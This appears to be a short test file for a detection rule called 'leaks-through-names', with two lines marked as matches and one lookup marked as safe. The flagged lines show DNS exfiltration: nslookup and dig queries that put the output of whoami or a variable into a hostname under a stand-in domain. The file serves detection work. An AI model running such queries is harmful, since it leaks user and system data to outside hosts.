# ruleid: leaks-through-names
nslookup $(whoami).c.example.test
# ruleid: leaks-through-names
dig +short "$X.c.example.test"
# ok: leaks-through-names
nslookup files.example.test
